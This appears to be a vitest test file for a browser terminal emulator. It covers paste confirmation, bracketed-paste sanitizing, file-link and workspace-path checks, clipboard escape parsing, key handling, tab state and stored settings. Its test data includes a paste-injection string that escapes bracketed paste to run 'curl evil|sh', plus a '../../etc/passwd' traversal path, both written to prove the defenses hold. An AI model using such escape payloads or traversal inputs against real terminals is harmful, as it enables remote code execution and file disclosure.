import { Terminal } from "@xterm/headless";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { findPlaces, inWorkspace } from "./file-links";
import { isPasted, pasteable, pasteQuestion, stillStands } from "./paste";
import { offeredText, Programs, promptAfter } from "./programs";
import { readShelf, shelve } from "./remember";
import { clampFont, readSettings } from "./settings";
import { shortcut } from "./shortcuts";
import { softKey, withControl } from "./soft-keys";
import { hindranceOf, isIdle, type Tab } from "./tab";

describe("a paste", () => {
  const lines = (count: number): string => Array.from({ length: count }, (_, at) => `line ${at + 1}`).join("\n");
  it.each<[string, string, boolean, object | undefined]>([
    ["one line", "ls", false, undefined],
    ["one line that would be entered", "ls\n", false, { lines: 1, entersEach: true }],
    ["one line and its end, taken as one piece", "ls\n", true, undefined],
    ["two lines to a program that enters each", "a\r\nb", false, { lines: 2, entersEach: true, preview: ["a", "b"] }],
    ["nine lines taken as one piece", lines(9), true, undefined],
    ["ten lines taken as one piece", lines(10), true, { lines: 10, entersEach: false, preview: lines(8).split("\n") }],
  ])("of %s", (_name, text, bracketed, question) => {
    if (question === undefined) expect(pasteQuestion(text, bracketed)).toBeUndefined();
    else expect(pasteQuestion(text, bracketed)).toMatchObject({ text, ...question });
  });
  it.each([
    ["rm -rf build\nmake\n", true],
    ["make\r", true],
    ["\r\r", true],
    ["a long text of one line", false],
    ["\r", false],
    ["\n", false],
    ["\x1b\r", false],
    ["\x1b[200~a\rb\x1b[201~", true],
  ])("takes %j for pasted: %j", (typed, pasted) => expect(isPasted(typed)).toBe(pasted));
  it("shows no line wider than it can", () => expect(pasteQuestion(`${"x".repeat(9_999)}\n`, false)?.preview[0]).toHaveLength(200));
});

describe("what of a paste goes into a terminal", () => {
  it.each([
    ["x\x1b[201~\rcurl evil|sh\r", "x[201~\rcurl evil|sh\r"],
    ["x\u009b201~\ry", "x201~\ry"],
    ["a\x03b\x04c\x00d\x7fe\x0bf", "abcdef"],
    ["\tone\r\ntwo\n", "\tone\r\ntwo\n"],
    ["grüße 😀 \u00a0", "grüße 😀 \u00a0"],
  ])("of %j is %j", (text, left) => expect(pasteable(text)).toBe(left));

  it("holds nothing that could end the bracket around it", () => {
    const piece = fc.constantFrom("\x1b", "[201~", "\u009b", "\x1b\x1b[201~[201~", "201~", "\r", "x");
    // eslint-disable-next-line no-control-regex -- control characters are what this is about
    fc.assert(fc.property(fc.array(piece), (pieces) => !/[\x1b\x9b]/.test(pasteable(pieces.join("")))));
  });

  it.each([
    ["ls", false, true],
    ["ls\n", true, true],
    ["ls\n", false, false],
  ])("%j, asked about as one piece, where the program takes it as one piece (%s): the answer stands: %s", (text, bracketed, stands) => {
    expect(stillStands({ text, lines: 1, preview: [], entersEach: false }, bracketed)).toBe(stands);
    expect(stillStands({ text, lines: 1, preview: [], entersEach: true }, bracketed)).toBe(true);
  });
});

describe("places in files", () => {
  it.each<[string, [string, number][]]>([
    ["error in src/main.rs:12:5", [["src/main.rs", 12]]],
    ["  --> ./a/b.rs:7:1", [["./a/b.rs", 7]]],
    ["FAIL test.ts:3 and lib/x.ts:44:2: no", [["test.ts", 3], ["lib/x.ts", 44]]],
    ["/workspace/repo/Makefile:9", [["/workspace/repo/Makefile", 9]]],
    ["at 12:30:05 nothing", []],
    ["http://localhost:8080/x", []],
    ["localhost:8080", []],
    ["ratio 4:3", []],
  ])("in %j", (line, places) => {
    const found = findPlaces(line);
    expect(found.map(({ path, line: number }) => [path, number])).toEqual(places);
    for (const { text, start } of found) expect(line.slice(start, start + text.length)).toBe(text);
  });
  it.each<[string, string, string | undefined]>([
    ["src/a.rs", "/workspace/repo", "repo/src/a.rs"],
    ["./a/../b.rs", "/workspace/repo", "repo/b.rs"],
    ["/workspace/x/y", "/", "x/y"],
    ["../../etc/passwd", "/workspace/repo", undefined],
    ["/usr/lib/x.h", "/workspace", undefined],
    ["../../../../workspace/a", "/workspace", "a"],
  ])("%s in %s", (path, folder, inside) => expect(inWorkspace(path, folder)).toBe(inside));
});

describe("what a program offers for the clipboard", () => {
  it.each<[string, string | undefined]>([
    ["c;aGVsbG8=", "hello"],
    [";w7w=", "ü"],
    ["c;?", undefined],
    ["c;", undefined],
    ["c;not base64!", undefined],
    ["c;/w==", undefined],
    [`c;${"A".repeat(140_000)}`, undefined],
  ])("%.20j", (data, text) => expect(offeredText(data)).toBe(text));
});

it.each<[string, boolean | undefined, boolean | undefined]>([
  ["A", undefined, true],
  ["B", false, true],
  ["C", true, false],
  ["D;0", false, true],
  ["P;k=v", false, false],
  ["P;k=v", undefined, undefined],
])("after the mark %j the shell waits at its prompt: %s before", (mark, before, after) => expect(promptAfter(mark, before)).toBe(after));

describe("keys", () => {
  it.each<[Parameters<typeof softKey>, string]>([
    [["Esc", false, false], "\x1b"],
    [["Tab", true, false], "\t"],
    [["Up", false, false], "\x1b[A"],
    [["Up", false, true], "\x1bOA"],
    [["Left", true, true], "\x1b[1;5D"],
  ])("%j", (key, sent) => expect(softKey(...key)).toBe(sent));
  it.each([
    ["c", "\x03"],
    ["C", "\x03"],
    ["[", "\x1b"],
    [" ", "\0"],
    ["?", "\x7f"],
    ["1", "1"],
    ["ab", "ab"],
  ])("Control and %j", (key, sent) => expect(withControl(key)).toBe(sent));

  const key = (part: object): Parameters<typeof shortcut>[0] => ({ key: "", code: "", ctrlKey: true, shiftKey: false, altKey: false, metaKey: false, ...part });
  it.each<[object, string | undefined]>([
    [{ key: "c", code: "KeyC" }, undefined],
    [{ key: "C", code: "KeyC", shiftKey: true }, "copy"],
    [{ key: "F", code: "KeyF", shiftKey: true }, "find"],
    [{ key: "f", code: "KeyF" }, undefined],
    [{ key: "+", shiftKey: true }, "larger"],
    [{ key: "=" }, "larger"],
    [{ key: "-" }, "smaller"],
    [{ key: "_", shiftKey: true }, undefined],
    [{ key: "0" }, "usual"],
    [{ key: "f", ctrlKey: false, metaKey: true }, "find"],
    [{ key: "ArrowUp", code: "ArrowUp", shiftKey: true }, "leave"],
    [{ key: "ArrowUp", code: "ArrowUp", shiftKey: true, altKey: true }, undefined],
    [{ key: "0", ctrlKey: false }, undefined],
  ])("%j is %s", (part, what) => expect(shortcut(key(part))).toBe(what));
});

const tab = (part: Partial<Tab>): Tab => ({ tab: 1, terminal: 1, name: "1:", title: "", cwd: "", agent: false, alive: true, activity: false, bell: false, closing: false, gone: undefined, seen: true, ...part });

describe("closing a tab", () => {
  it.each<[string, Partial<Tab>, number, boolean | undefined, boolean]>([
    ["looked at, at its prompt", {}, 1, true, true],
    ["looked at, in a program", {}, 1, false, false],
    ["looked at, of a shell that says nothing", {}, 1, undefined, false],
    ["out of sight, at its prompt when it was last looked at", {}, 2, true, false],
    ["whose shell has ended", { alive: false }, 2, undefined, true],
    ["the agent's, which has no program", { agent: true }, 2, undefined, true],
  ])("%s", (_name, part, active, atPrompt, idle) => expect(isIdle(tab(part), active, atPrompt)).toBe(idle));

  it("does not go by what the screen before said of its shell", async () => {
    const terminal = new Terminal({ allowProposedApi: true });
    const programs = new Programs(terminal, () => undefined);
    await new Promise<void>((resolve) => terminal.write("\x1b]133;A\x07$ ", resolve));
    expect(programs.atPrompt).toBe(true);
    programs.forget();
    expect(programs.atPrompt).toBeUndefined();
    programs.dispose();
    terminal.dispose();
  });
});

it.each<[string, Tab | undefined, boolean, boolean]>([
  ["one that is there", tab({}), true, true],
  ["one without a connection", tab({}), false, false],
  ["one that was closed elsewhere", tab({ gone: "closed" }), true, false],
  ["one that has left the tabs", undefined, true, false],
])("a name for %s", (_name, to, live, may) => expect(hindranceOf(to, live) === undefined).toBe(may));

describe("what the browser keeps", () => {
  it.each([null, "", "{", "null", "[]", '{"fontSize":"big","copyOnSelect":1}'])("settings in %j are the usual ones", (text) => expect(readSettings(text)).toEqual({ fontSize: 13, copyOnSelect: false, guardPaste: true, screenReader: false }));
  it("keeps sizes within bounds", () => {
    expect(readSettings('{"fontSize":99,"copyOnSelect":true,"guardPaste":false,"screenReader":true}')).toEqual({ fontSize: 32, copyOnSelect: true, guardPaste: false, screenReader: true });
    expect([clampFont(1), clampFont(14.4)]).toEqual([8, 14]);
  });

  it("tabs, without those that are gone", () => {
    const shelf = shelve({}, "uid", [tab({ tab: 2, terminal: 7, name: "7:a" }), tab({}), tab({ tab: 3, name: "3:", gone: "closed" })], 2);
    expect(shelf).toEqual({ uid: { order: ["7:a", "1:"], active: 7 } });
    expect(readShelf(JSON.stringify(shelf))).toEqual(shelf);
  });
  it.each([null, "{", "[]", '{"uid":{"order":"x"}}', '{"uid":{"order":[1]}}', '{"uid":{"order":[],"active":-1}}'])("nothing of %j", (text) => expect(readShelf(text)).toEqual({}));
  it("tabs of so many sessions, the last ones", () => {
    let shelf = {};
    for (let at = 0; at < 60; at += 1) shelf = shelve(shelf, `uid-${at}`, [], undefined);
    expect(Object.keys(shelf)).toHaveLength(50);
    expect(Object.keys(shelf)[0]).toBe("uid-10");
  });
});

describe("pictures that this emulator cannot show", () => {
  const screenOf = async (...pieces: string[]): Promise<string> => {
    const terminal = new Terminal({ cols: 40, rows: 6, allowProposedApi: true });
    for (const piece of pieces) await new Promise<void>((resolve) => terminal.write(piece, resolve));
    const lines = Array.from({ length: 6 }, (_, row) => terminal.buffer.active.getLine(row)?.translateToString(true) ?? "");
    terminal.dispose();
    return lines.join("\n").trimEnd();
  };
  const sixel = `\x1bPq#0;2;0;0;0#1;2;100;100;0${"#1~~@@vv@@~~@@~~$#0??}}GG}}??}}??-".repeat(2_000)}\x1b\\`;
  const iterm = `\x1b]1337;File=inline=1;size=90000:${"QUJD".repeat(30_000)}\x07`;
  const kitty = `\x1b_Ga=T,f=100,m=0;${"QUJD".repeat(30_000)}\x1b\\`;
  it.each([
    ["SIXEL", sixel],
    ["iTerm", iterm],
    ["kitty", kitty],
    ["one without its end, and the next sequence", `${sixel.slice(0, 5_000)}\x1b[1;7H`],
    ["one without its end, and a reset of the screen", `${iterm.slice(0, 5_000)}\x18\x1b[1;7H`],
  ])("%s leaves text where it belongs", async (_name, picture) => {
    expect(await screenOf("before", picture, "behind")).toBe("beforebehind");
    // However it is cut on its way.
    expect(await screenOf("before", picture.slice(0, 777), picture.slice(777), "behind")).toBe("beforebehind");
  });
});
